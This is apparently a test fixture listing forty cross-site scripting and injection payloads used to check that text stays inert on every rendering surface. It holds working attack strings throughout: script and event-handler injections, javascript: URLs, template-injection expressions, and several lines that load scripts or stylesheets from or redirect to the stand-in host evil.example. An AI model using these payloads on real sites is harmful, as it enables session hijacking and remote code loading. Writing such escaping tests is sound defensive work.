// Script, link and markup payloads that must stay plain text on every surface.

/** Code of each payload; sets a global that tests check. */
const RUNS = 'parent.pwned=window.pwned=1';

/** Forty payloads, each for another place that could treat text as code or markup. */
export const PAYLOADS = [
  `<script>${RUNS}</script>`,
  `"><script>${RUNS}</script>`,
  `'><script>${RUNS}</script>`,
  `</title><script>${RUNS}</script>`,
  `</style><script>${RUNS}</script>`,
  `</textarea><script>${RUNS}</script>`,
  `--><script>${RUNS}</script>`,
  `<scr<script>ipt>${RUNS}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=${RUNS}>`,
  `"><img src=x onerror=${RUNS}>`,
  `" onmouseover=${RUNS} x="`,
  `' onfocus=${RUNS} autofocus x='`,
  `<svg onload=${RUNS}>`,
  `<svg><script>${RUNS}</script></svg>`,
  `<svg><animate onbegin=${RUNS} attributeName=x></svg>`,
  `<math><mtext><img src=x onerror=${RUNS}></mtext></math>`,
  `<iframe src=javascript:${RUNS}></iframe>`,
  `<iframe srcdoc="<script>${RUNS}</script>"></iframe>`,
  `<object data=javascript:${RUNS}></object>`,
  `<embed src=javascript:${RUNS}>`,
  `<body onload=${RUNS}>`,
  `<details open ontoggle=${RUNS}>`,
  `<video><source onerror=${RUNS}></video>`,
  `<audio src=x onerror=${RUNS}>`,
  `<input autofocus onfocus=${RUNS}>`,
  `<a href=javascript:${RUNS}>press</a>`,
  `<form action=javascript:${RUNS}><button>press</button></form>`,
  `<meta http-equiv=refresh content=0;url=//evil.example>`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import url(//evil.example/x.css)</style>`,
  `<template><script>${RUNS}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>">`,
  `javascript:${RUNS}`,
  `data:text/html,<script>${RUNS}</script>`,
  '{{constructor.constructor("window.pwned=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template engine would take for its own
  '${window.pwned=1}',
  '\u202Eksir on dnuof\u202C \u2066hidden\u2069 zero\u200Bwidth',
  'a\u0000b\u0008c\u001b[31m \ud800 <\u0000script>window.pwned=1</script>',
];
